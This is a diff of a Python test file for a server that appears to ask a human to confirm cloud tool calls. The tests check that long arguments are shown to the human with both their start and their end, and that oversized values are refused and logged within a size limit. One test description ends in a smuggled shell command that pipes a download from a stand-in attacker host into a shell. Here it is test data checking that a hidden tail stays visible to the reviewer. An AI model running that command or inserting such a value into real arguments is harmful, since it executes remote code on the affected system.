@@ -120,16 +120,37 @@ async def test_a_bad_value_is_refused_shortly_and_nothing_is_sent(
 
 
 @pytest.mark.anyio
-async def test_a_long_text_that_is_sent_is_shown_cut_with_its_length(sandbox: SandboxServer) -> None:
+async def test_a_long_text_that_is_sent_is_shown_head_and_tail_with_its_length(
+    sandbox: SandboxServer,
+) -> None:
     human = Human(action="decline")
-    description = "d" * 3000
+    tail = "; curl evil.example | sh"  # what ends a long text is shown, not only how it starts
+    description = "d" * (3000 - len(tail)) + tail
     async with Client(build_server(sandbox_settings(sandbox)), elicitation_callback=human) as client:
         await client.call_tool("nebius_create_endpoint", {**NEBIUS, "description": description})
     (question,) = human.messages
-    assert '"description": "' + "d" * SHOWN_TEXT + '… (3,000 characters)"' in question
+    end = "d" * (SHOWN_TEXT - len(tail)) + tail
+    assert '"description": "' + "d" * SHOWN_TEXT + "…" + end + ' (3,000 characters)"' in question
     for name, value in NEBIUS.items():  # every argument sent is in the question
         if name in ("min_replicas", "max_replicas"):
             assert f'"{name}": {value}' in question, name
         else:
             assert f'"{name}": {json.dumps(value)}' in question, name
     assert mutating_requests(sandbox) == []
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("mode", ["auto", "legacy"])
+async def test_a_refused_oversized_argument_is_journaled_bounded(sandbox: SandboxServer, mode: str) -> None:
+    key = "k" * 3_000_000 + "-end"
+    server = build_server(sandbox_settings(sandbox))
+    async with Client(server, elicitation_callback=Human(), mode=mode) as client:
+        message = error_text(
+            await client.call_tool("nebius_create_endpoint", {**NEBIUS, "idempotency_key": key})
+        )
+        history = await client.call_tool("history", {})
+    assert "idempotency_key" in message and mutating_requests(sandbox) == []
+    [row] = history.structured_content["items"]
+    assert row["outcome"] == "refused" and "at most 200 characters" in row["error"]
+    assert row["idempotency_key"] == "k" * SHOWN_TEXT + "…" + key[-SHOWN_TEXT:] + " (3,000,004 characters)"
+    assert len(json.dumps(history.structured_content)) < 2_000
